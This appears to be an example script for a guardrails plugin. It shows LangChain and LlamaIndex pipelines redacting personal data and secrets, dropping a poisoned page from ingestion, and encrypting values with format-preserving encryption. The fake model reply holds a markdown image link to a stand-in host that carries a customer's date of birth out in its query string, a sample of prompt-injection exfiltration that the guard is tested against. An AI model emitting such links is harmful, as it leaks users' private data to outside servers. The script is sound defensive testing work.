"""The main job, offline: a guarded LangChain chain, a guarded LlamaIndex ingestion, encryption and the way back.

python examples/quickstart.py
"""

from __future__ import annotations

import sys
import time
from collections import Counter
from collections.abc import Mapping
from pathlib import Path
from typing import Any

from langchain_core.language_models import GenericFakeChatModel
from langchain_core.messages import AIMessage
from langchain_core.output_parsers import StrOutputParser
from langchain_core.prompts import ChatPromptTemplate
from langchain_core.runnables import RunnableLambda
from llama_index.core import Document
from llama_index.core.ingestion import IngestionPipeline
from llama_index.core.node_parser import SentenceSplitter
from rich.console import Console
from rich.panel import Panel
from rich.table import Table
from rich.text import Text

from guardrails_plugin import Engine, Keyring
from guardrails_plugin.detectors.examples import expand
from guardrails_plugin.langchain import Guard
from guardrails_plugin.llama_index import GuardTransform

DATA = Path(__file__).parent / "data"
CARD, SSN = "4111 1111 1111 1111", "536-90-4399"  # a card issuer's test number and an invented SSN
REPLY = (
    f"Your savings account is on its way. I tried the card {CARD} once more and it works, and the bureau has confirmed "
    f"the number {SSN}. "
    "![status](https://stats.example.net/p.png?q=The%20customer%20was%20born%20on%2007%2F22%2F1986%20in%20Fairview) "
    "If anything is unclear, just answer this message and we will call you back."
)
COLOURS = {"allow": "green", "report": "blue", "transform": "yellow", "block": "red"}
DONE = {"block": "blocked", "defang": "defanged", "encrypt": "encrypted", "replace": "replaced", "report": "reported"}
Checks = list[tuple[str, bool]]
console = Console(width=118, highlight=False)


def load(name: str) -> str:
    """A text from examples/data. No secret stands in the files: ``{alnum:36}`` becomes 36 letters and digits here."""
    return expand((DATA / name).read_text("utf-8"))


class Recorder:
    """An audit sink: the engine tells it what was found and done at every stage, never the text."""

    def __init__(self) -> None:
        self.records: list[Mapping[str, Any]] = []

    def write(self, record: Mapping[str, Any]) -> None:
        """Take a record."""
        self.records.append(record)

    def table(self, names: list[str]) -> Table:
        """Every record, under the name of what it is about."""
        table = Table("what", "stage", "found and done", "verdict", title="What was found and done", expand=True)
        table.add_column("ms", justify="right")
        for name, record in zip(names, self.records, strict=True):
            done = "\n".join(f"{DONE[action]} {types(record, action)}" for action in DONE if types(record, action))
            verdict = Text(record["verdict"], style=COLOURS[record["verdict"]])
            table.add_row(name, record["stage"], done or "nothing", verdict, f"{record['seconds'] * 1000:.1f}")
        return table


def types(record: Mapping[str, Any], action: str) -> str:
    """The entity types of an audit record that an action was taken on, with their number."""
    counts = Counter(str(found["type"]) for found in record["findings"] if found["action"] == action)
    return ", ".join(f"{count} {kind}" if count > 1 else kind for kind, count in counts.items())


def chain(engine: Engine) -> Checks:
    """LangChain: the prompt is guarded before the model sees it, the answer before anybody else does."""
    console.rule('1. LangChain: prompt | Guard("llm_prompt") | model | Guard("response")')
    prompt = ChatPromptTemplate.from_messages(
        [("system", "You work for a bank. Write a short and friendly answer to every ticket."), ("human", "{ticket}")]
    )
    model = GenericFakeChatModel(messages=iter([AIMessage(REPLY)] * 2))
    seen: list[str] = []
    before = prompt | Guard("llm_prompt", engine=engine) | RunnableLambda(lambda value: noted(value, seen))
    guarded = before | model | Guard("response", engine=engine) | StrOutputParser()

    ticket = {"ticket": load("support_ticket.txt")}
    answer = guarded.invoke(ticket)
    chunks = [chunk for chunk in guarded.stream(ticket) if chunk]

    show("what the model sees", passage(seen[0], "Date of birth", 6))
    show(f"what the customer gets (streamed: the same, in {len(chunks)} chunks)", answer)
    return [
        ("the model sees neither card nor SSN", CARD not in seen[0] and SSN not in seen[0]),
        ("nor does the reader of the answer", CARD not in answer and SSN not in answer),
        ("the image that would carry data away is no link any more", "https://stats" not in answer),
        ("the stream says the same as the whole answer", "".join(chunks) == answer and len(chunks) > 1),
    ]


def noted(value: Any, seen: list[str]) -> Any:
    """The value itself; what the model is about to read is noted on the way."""
    seen.append(str(value.to_messages()[-1].content))
    return value


def ingestion(engine: Engine) -> Checks:
    """LlamaIndex: the guard stands first, so nothing poisoned or private reaches the index."""
    console.rule("2. LlamaIndex: IngestionPipeline([GuardTransform(), SentenceSplitter()])")
    documents = [Document(text=load(name), metadata={"file_name": name}) for name in names()]
    guard = GuardTransform(engine=engine)
    pipeline = IngestionPipeline(transformations=[guard, SentenceSplitter(chunk_size=4096)])
    nodes = {node.metadata["file_name"]: node.get_content() for node in pipeline.run(documents=documents)}

    show("api_log.txt as it is indexed", passage(nodes["api_log.txt"], "2025-06-11T08:01:45.310Z", 5))
    gone = [name for name in names() if name not in nodes]
    why = [reason for result in guard.dropped for reason in result.reasons]
    console.print(f"dropped: {', '.join(gone) or 'nothing'} ({'; '.join(why)})\n")
    ticket, mails, log = (nodes.get(name, "") for name in ("support_ticket.txt", "email_thread.txt", "api_log.txt"))
    return [
        ("the poisoned page was dropped, the others were kept", gone == ["web_page.md"]),
        ("personal data was replaced", "<US_SSN>" in ticket and SSN not in ticket and "<IBAN_CODE>" in mails),
        ("secrets were replaced", "<GITHUB_TOKEN>" in log and "ghp_" not in log and "AKIA" not in log),
        ("the clean document is untouched", nodes["clean.md"].strip() == load("clean.md").strip()),
    ]


def encryption(engine: Engine) -> Checks:
    """Values keep their format, and whoever holds the key turns them back."""
    console.rule("3. Format-preserving encryption, and the way back")
    original = f"The customer gave card {CARD} and SSN {SSN} on the phone."
    overrides = {"pii": {"credit_card": "encrypt", "us_ssn": "encrypt"}}
    result = engine.check(original, stage="prompt", overrides=overrides)
    card, ssn = (replacement.text for replacement in result.replacements)
    answer = f"I have noted {ssn}; the card {card} was charged."
    restored = engine.unredact(answer, result.fpe_context or "")

    lines = [("original", original), ("encrypted", result.output), ("an answer", answer), ("turned back", restored)]
    show("", "\n".join(f"{label:<12} {text}" for label, text in lines))
    return [
        ("nothing of the values is left", CARD not in result.output and SSN not in result.output),
        ("they keep their format", [len(card), len(ssn)] == [len(CARD), len(SSN)]),
        ("they come back, in other words too", restored == f"I have noted {SSN}; the card {CARD} was charged."),
    ]


def names() -> list[str]:
    """The files of examples/data."""
    return sorted(path.name for path in DATA.iterdir() if path.suffix in {".md", ".txt"})


def passage(text: str, start: str, lines: int) -> str:
    """Some lines of a text, from ``start`` on."""
    return "\n".join(line.strip() for line in text[text.index(start) :].splitlines()[:lines])


def show(title: str, text: str) -> None:
    """Print a text in a box."""
    console.print(Panel(Text(text), title=title or None, title_align="left"))


def main() -> int:
    """Run all three and say whether everything is as it should be."""
    began = time.perf_counter()
    recorder = Recorder()
    engine = Engine(sinks=[recorder])
    with_key = Engine(sinks=[recorder], keyring=Keyring.generate())
    for stage in ("llm_prompt", "response", "ingestion"):  # patterns are compiled, the model is loaded at first use
        engine.check_batch([f"First use. {load(name)}" for name in names()], stage=stage)
    recorder.records.clear()
    console.print(f"engine ready after {time.perf_counter() - began:.1f} s: patterns compiled, model loaded\n")

    checks = chain(engine) + ingestion(engine) + encryption(with_key)

    about = ["support_ticket.txt", "answer", "support_ticket.txt", "answer, streamed", *names(), "card and SSN"]
    console.print(recorder.table(about))
    console.print("Documents are checked in one batch: their time is that of the batch.\n", style="dim")
    for claim, holds in checks:
        console.print(Text("  ok  " if holds else "FAIL  ", style="green" if holds else "bold red") + claim)
    return 0 if all(holds for _, holds in checks) else 1


if __name__ == "__main__":
    sys.exit(main())
